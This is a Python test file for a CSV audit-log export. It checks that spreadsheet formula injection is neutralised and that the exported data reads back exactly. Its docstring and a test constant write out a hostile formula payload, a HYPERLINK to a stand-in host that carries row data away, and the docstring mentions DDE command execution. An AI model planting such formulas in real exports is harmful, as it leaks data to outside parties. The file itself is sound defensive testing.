"""The audit export in CSV under a hostile pass: a formula in a text field (decision 0090).

An officer knows their own password, so they could sign a kept (offline) decision file of
their own making (decision 0062) whose ``workstation`` the flush recorded in its audit
entry's ``workstation`` column. The flush now refuses a desk name no computer has
(services/kept_checks.py), but a record can still hold one: recorded before that check,
or by a desk whose own name is odd (its live saves record it as it is). Named
``=HYPERLINK("http://x.example/?"&B2,"open")``, the auditor who opened ``audit export
--format csv`` in Excel or LibreOffice got a live formula (a link carrying the row's data
away; ``=cmd|…`` runs a program where DDE is on). The CSV wrote every field raw: the
report CSVs neutralised formulas, the audit CSV did not.

Now a field that begins with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or an
apostrophe gets one apostrophe more, and nothing else changes: a reader takes one leading
apostrophe off every field that has one and has the record's text exactly, the chain's
hashes recomputed from it included. JSON lines are written as before.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from livekit import honored
from servicekit import Desk

from trustdesk.exports.cells import FORMULA_LEADS
from trustdesk.services.anchors import read_anchors
from trustdesk.store.audit import COLUMNS, entry_hash

FORMULA = '=HYPERLINK("http://x.example/?"&B2,"open")'
QUOTED = "'-looks quoted already"


def _recorded_from(desk: Desk, rules: Any, workstation: str, booking: str) -> None:
    """A decision recorded in the record under the desk name ``workstation`` (the
    desk's own name for the time of that one save)."""
    ctx = desk.services.ctx
    officer = desk.session("officer")
    real = ctx.workstation
    ctx.workstation = workstation
    try:
        desk.services.decisions.create(officer, *honored(rules, booking=booking))
    finally:
        ctx.workstation = real


def _unquoted(field: str) -> str:
    """The reading the export documents: one leading apostrophe taken off."""
    return field[1:] if field.startswith("'") else field


def test_a_formula_in_an_audit_field_is_exported_as_text_and_read_back_exactly(
    desk: Desk, rules: Any, tmp_path: Path
) -> None:
    real = desk.services.ctx.workstation
    _recorded_from(desk, rules, FORMULA, "NH-CELL-1")
    _recorded_from(desk, rules, QUOTED, "NH-CELL-2")
    target = tmp_path / "trail.csv"
    count = desk.services.records.export(desk.session("auditor"), "csv", target, io.StringIO())
    with open(target, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == list(COLUMNS)
    body = rows[1:]
    assert len(body) == count
    # No field starts a formula in a spreadsheet.
    assert not [field for row in body for field in row if field.startswith(FORMULA_LEADS)]
    entries = [dict(zip(COLUMNS, row, strict=True)) for row in body]
    marked = [(row["event"], row["workstation"]) for row in entries if row["workstation"] != real]
    # Only the two decisions recorded under those names carry them.
    assert marked == [("decision.created", "'" + FORMULA), ("decision.created", "'" + QUOTED)]
    # Read back as documented, every field is the record's, and the chain recomputes.
    stored = list(desk.store.audit.stream(count))
    assert len(stored) == count
    for row, entry in zip(body, stored, strict=True):
        values = dict(zip(COLUMNS, (_unquoted(field) for field in row), strict=True))
        for column in COLUMNS:
            value = getattr(entry, column)
            assert values[column] == ("" if value is None else str(value)), (entry.seq, column)
        assert values["hash"] == entry_hash(
            values["prev_hash"],
            int(values["seq"]),
            values["at"],
            values["workstation"],
            values["actor"] or None,
            int(values["actor_id"]) if values["actor_id"] else None,
            values["event"],
            values["outcome"],
            values["objects"],
        )
    # The export is still an anchor `audit verify --anchors` reads: its last entry.
    [(_name, anchor)] = read_anchors([target])
    assert (anchor.seq, anchor.hash) == (stored[-1].seq, stored[-1].hash)


def test_json_lines_carry_the_field_as_recorded(desk: Desk, rules: Any) -> None:
    """JSON strings are never run as formulas: the JSON lines export is unchanged."""
    import json

    _recorded_from(desk, rules, FORMULA, "NH-CELL-3")
    out = io.StringIO()
    desk.services.records.export(desk.session("auditor"), "jsonl", None, out)
    lines = [json.loads(line) for line in out.getvalue().splitlines()]
    assert FORMULA in [line["workstation"] for line in lines if line["event"] == "decision.created"]


def test_the_first_entrys_zero_hash_is_not_read_as_the_number_0(desk: Desk, tmp_path: Path) -> None:
    """The first entry's ``prev_hash`` is 64 zeros: Excel and LibreOffice read it as the
    number 0. It is marked as a formula is, and read back as the record's text; the
    entries' numbers stay numbers."""
    target = tmp_path / "trail.csv"
    count = desk.services.records.export(desk.session("auditor"), "csv", target, io.StringIO())
    with open(target, encoding="utf-8", newline="") as handle:
        rows = [dict(zip(COLUMNS, row, strict=True)) for row in list(csv.reader(handle))[1:]]
    assert len(rows) == count and rows[0]["seq"] == "1"
    assert rows[0]["prev_hash"] == "'" + "0" * 64
    assert _unquoted(rows[0]["prev_hash"]) == desk.store.audit.entry(1).prev_hash
    assert [row["seq"] for row in rows] == [str(n) for n in range(1, count + 1)]
    assert not [row for row in rows[1:] if row["prev_hash"].startswith("'")]


def test_digits_a_spreadsheet_would_change_are_marked() -> None:
    from trustdesk.services.records import csv_field

    assert csv_field("0" * 64) == "'" + "0" * 64
    assert csv_field("0123") == "'0123"
    assert csv_field("1234567890123456") == "'1234567890123456"  # 16 digits
    for kept in ("0", "7", "123456789012345", "12ab", "", "０１"):
        assert csv_field(kept) == kept, kept
